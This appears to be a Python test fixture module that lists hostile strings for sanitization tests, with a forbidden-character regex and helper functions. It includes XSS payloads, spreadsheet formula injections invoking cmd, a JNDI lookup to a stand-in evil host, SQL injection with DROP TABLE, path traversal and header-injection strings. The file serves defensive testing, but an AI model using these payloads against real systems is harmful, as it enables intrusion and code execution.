"""Hostile strings, and what "shown literally and harmlessly" means for each output.

The catalogue: Rich and BBCode-like markup, ANSI/OSC escapes, C0/C1 controls, bidi overrides
and isolates, zero-width and other invisible marks, HTML and script, javascript:/data: URLs,
Markdown links and tables, spreadsheet formulas (behind white space or a bidi mark too),
iCalendar line injection, format strings, and two 1 MB titles. Lone surrogates are not here:
they cannot reach the store (the JSON loader replaces them, see test_regress_json.py; the
fetcher decodes bytes with replacement).
"""

from __future__ import annotations

import re

from tracker.textsafe import terminal_safe

MEGABYTE_ASCII = "A" * 1_000_000
MEGABYTE_CYRILLIC = "Ж" * 500_000  # 1 MB in UTF-8

HOSTILE: tuple[str, ...] = (
    "[bold]bold[/bold] and [italic]it[/italic]",
    "[link=https://evil.example/phish]click here[/link]",
    "[/] closing nothing [/bold]",
    "[red on white blink]alarm[/]",
    ":warning: :skull: emoji codes",
    "\x1b[31mRED\x1b[0m after",
    "\x1b]8;;https://evil.example\x1b\\hyperlink\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[Hclear screen",
    "\x1b]0;pwned window title\x07",
    "\x9b31mC1 CSI\x9b0m",
    "\x9d0;osc via C1\x9c",
    "bell\x07\x07",
    "back\x08\x08\x08space",
    "carriage\rreturn overwrite",
    "nul\x00byte",
    "del\x7fchar",
    "line\nbreak\n# fake heading",
    "tab\tseparated\tcells",
    "\u202eexe.txt\u202c reversed",
    "\u2066isolate\u2069 \u2067rtl isolate\u2069",
    "\u200b\u200bzero\u200bwidth",
    "\ufeffbyte order mark",
    "word\u2060joiner",
    "\u200emarks\u200f\u061c",
    "line\u2028separator\u2029paragraph",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "&lt;b&gt;entity&lt;/b&gt; &amp; &#x3C;",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![pixel](https://evil.example/track.png)",
    "<https://evil.example/autolink>",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "\r=1+1 after a CR",
    "  =1+1 after spaces",
    "\n=1+1 after a newline",
    "\u202e=1+1 after a bidi override",
    "| pipe | in | a | table |",
    "back\\slash \\| escaped pipe",
    "*bold* _em_ `code` ~~strike~~ **x**",
    "semicolon; comma, backslash \\ colon: quote\"",
    "BEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT",
    "X\r\nBcc: victim@example.org\r\nSubject: injected",
    "%s %d {0} {title} ${jndi:ldap://evil.example/a}",
    "' OR 1=1 -- ; DROP TABLE documents;",
    "😀 emoji 👨‍👩‍👧 family (ZWJ kept)",
    "مرحبا بالعالم Arabic, right to left",
    "Z̸͚̾a̵̤l̷g̵o̴ combining marks",
    "..\\..\\etc\\passwd ../../etc/passwd",
    MEGABYTE_ASCII,
    MEGABYTE_CYRILLIC,
)

#: What must never reach a terminal, a report, a mail or a calendar: C0 controls except line
#: feed and tab, DEL, C1 controls, bidi controls, zero-width space, word joiner, BOM.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]"
)
HOSTILE_URLS: tuple[str, ...] = (
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "http://[evil",
    "https://evil.example/a b", "https://ok.example/a\r\nX-Injected: 1", "//evil.example/x",
    "https://ok.example/\u202etxt.exe",
)


def forbidden_in(text: str) -> list[str]:
    """The forbidden characters found in ``text`` (for assertion messages)."""
    return sorted({repr(c) for c in FORBIDDEN.findall(text)})


def visible(value: str) -> str:
    """What a person should see: the text with the forbidden characters removed and white
    space runs as single spaces."""
    return " ".join(terminal_safe(value).split())


def short(values: tuple[str, ...] = HOSTILE, limit: int = 2000) -> list[str]:
    """The hostile strings that are not megabytes long."""
    return [v for v in values if len(v) <= limit]
